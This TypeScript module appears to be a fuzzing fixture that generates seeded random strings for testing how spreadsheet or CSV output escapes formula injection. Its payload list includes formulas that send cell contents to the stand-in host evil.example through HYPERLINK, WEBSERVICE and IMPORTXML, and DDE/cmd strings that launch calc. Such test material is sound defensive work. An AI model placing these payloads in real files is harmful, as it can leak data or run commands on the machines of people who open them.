/** Texts that spreadsheets have taken for formulas, commands, links, numbers or dates. */
const PAYLOADS = [
  '=1+1',
  '=SUM(A1:A9)',
  '=HYPERLINK("http://evil.example?x="&A1,"click")',
  `=cmd|' /C calc'!A0`,
  '=WEBSERVICE("http://evil.example/"&A2)',
  '=IMPORTXML(CONCAT("http://evil.example/",A2),"//a")',
  '=DDE("cmd";"/C calc";"__DdeLink")',
  '+1+1',
  '+SUM(1;2)',
  '-2+3',
  '-1',
  '-1-cmd|calc!A0',
  '@SUM(1+1)',
  '@A1',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  "'=1+1",
  '"=1+1',
  '"";=1+1',
  ',=1+1',
  ';=1+1',
  '=1+1",=2+2',
  '＝1+1',
  '﹢1',
  '−1',
  '{=1+1}',
  '=-+@1',
  '%3D1+1',
  '0x1F',
  '1e5',
  '00123',
  '1/2',
  '2026-11-15',
  '10%',
  'TRUE',
  '#REF!',
  'R1C1',
  '日本語=1',
  '🙂=1',
  'é',
]
const TAIL = Array.from('abcXYZ0189 =+-@;,:.\'"()[]{}|&!#%$\\/<>\n\t_ áç🙂')

/** The same seed makes the same texts. */
export function hostileTexts(count: number, seed: number): string[] {
  const next = random(seed)
  const pick = <Item>(items: readonly Item[]) => items[Math.floor(next() * items.length)]
  return Array.from({ length: count }, () => {
    const tail = Array.from({ length: Math.floor(next() * 12) }, () => pick(TAIL)).join('')
    const isPlain = next() < 0.1
    return isPlain ? `${pick(TAIL)}${tail}` : `${pick(PAYLOADS)}${tail}`
  })
}

/** Mulberry32: small, and good enough to choose by. */
function random(seed: number): () => number {
  let state = seed
  return () => {
    state = (state + 0x6d2b79f5) | 0
    let t = Math.imul(state ^ (state >>> 15), 1 | state)
    t = (t + Math.imul(t ^ (t >>> 7), 61 | t)) ^ t
    return ((t ^ (t >>> 14)) >>> 0) / 4_294_967_296
  }
}
